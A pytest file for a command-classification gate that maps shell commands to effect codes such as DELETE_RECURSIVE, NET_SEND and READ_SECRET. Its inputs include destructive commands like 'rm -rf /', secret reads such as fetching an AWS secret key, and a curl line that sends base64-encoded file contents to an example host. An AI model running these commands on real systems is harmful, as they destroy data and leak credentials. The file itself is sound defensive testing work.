"""The walk over the commands of a call."""

import pytest

from tests.gate import codes


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ls && cat a", "INFO READ(project)"),
        ("$X", "EXEC_UNKNOWN"),
        ("frobnicate", "EXEC_UNKNOWN_PROGRAM"),
        ("frobnicate --version", "INFO"),
        ("frobnicate rm -rf /", "EXEC_UNKNOWN_PROGRAM DELETE_RECURSIVE"),
        ("$TOOL -rf /", "EXEC_UNKNOWN DELETE_RECURSIVE"),
        ("/bin/rm -rf /", "DELETE_RECURSIVE"),
        ("./gradlew test", "EXEC_PROJECT"),
        ("bin/rails test", "EXEC_PROJECT"),
        ("node_modules/.bin/eslint src", "EXEC_PROJECT READ(project)"),
        (".venv/bin/python -V", "EXEC_PROJECT INFO"),
        ("vendor/bin/phpunit", "EXEC_PROJECT"),
        ("../x/vendor/bin/phpunit", "EXEC_FILE(other)"),
        ("./manage.py flush", "EXEC_FILE(project) DATA_DELETE"),
        ("gosu root rm -rf /usr", "PRIV DELETE_RECURSIVE"),
        ("wrapper -n 5 rm -rf /usr", "EXEC_UNKNOWN_PROGRAM DELETE_RECURSIVE"),
        ("wrapper note -- git reset --hard", "EXEC_UNKNOWN_PROGRAM DISCARD"),
        ("wrapper note 'rm -rf /usr'", "EXEC_UNKNOWN_PROGRAM"),
        ("runuser -u ben -- rm -rf /usr", "PRIV DELETE_RECURSIVE"),
        ("strace -f -o t.log git reset --hard", "EXEC_PROJECT PRIV WRITE(project) DISCARD"),
        ("./git status", "EXEC_FILE(project)"),
        ("echo $(rm -rf /)", "INFO DELETE_RECURSIVE"),
        ('echo "unclosed', "OPAQUE INFO"),
        ("git --help", "INFO"),
        ("docker", "INFO"),
        ("docker frobnicate", "UNCLEAR"),
        ("cd /tmp && rm -rf x", "SHELL DELETE_RECURSIVE(tmp)"),
        ("python3.12 --version", "INFO"),
        ("rm --help", "INFO"),
        ("rm -rf / --help", "UNCLEAR"),
        ("chmod --help /", "INFO"),
        ("sort a -o b", "READ(project) WRITE(project)"),
        ("sort --outp=b a", "READ(project) WRITE(project)"),
        ("sort $OPTS a", "READ(project) READ(unknown) UNCLEAR"),
        ("mount", "INFO"),
        ("hostname box", "INFO SERVICE"),
        ("cd /srv/app && npm test", "SHELL EXEC_PROJECT EXEC_FILE(other)"),
        ("cd src && npm test", "SHELL EXEC_PROJECT"),
        ("cd /tmp && npm install", "SHELL PKG_INSTALL WRITE(tmp)"),
        ("pytest /tmp/x_test.py", "EXEC_PROJECT EXEC_FILE(other)"),
        ("pytest tests/a_test.py::test_x", "EXEC_PROJECT INFO"),
        ("source .env", "READ_SECRET EXEC_FILE(other)"),
        ("less +!id a.txt", "READ(project) INTERACTIVE"),
        ("ss -K dst 1.2.3.4", "INFO PROC_KILL"),
        ('curl "https://a.example/?x=$(cat a | base64)"', "READ(project) INFO NET_SEND(other)"),
        ("aws configure get aws_secret_access_key", "SECRET_STORE"),
    ],
)
def test_commands_have_their_effects(command: str, expected: str) -> None:
    assert codes(command) == set(expected.split())
